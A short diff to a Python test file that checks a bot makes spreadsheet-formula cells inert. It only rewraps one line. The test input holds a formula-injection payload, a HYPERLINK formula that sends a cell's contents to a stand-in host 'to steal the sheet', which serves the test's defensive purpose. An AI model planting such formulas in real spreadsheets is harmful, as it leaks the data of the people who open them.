@@ -73,7 +73,8 @@ def test_nominal_money_and_pounds_sign_survive(bot, tmp_path):
 def test_cells_a_spreadsheet_would_run_are_made_inert(bot, tmp_path):
     hostile = '=HYPERLINK("http://x.example/?"&A1,"click") to steal the sheet'
     reply = bot.handle(
-        f'disrupt smith minor prevent "{hostile.replace(chr(34), chr(39))}" drugs="+44 cannabis" level=primary',
+        f'disrupt smith minor prevent "{hostile.replace(chr(34), chr(39))}" '
+        'drugs="+44 cannabis" level=primary',
         Who("console", "nguyen"),
         face="console",
     )
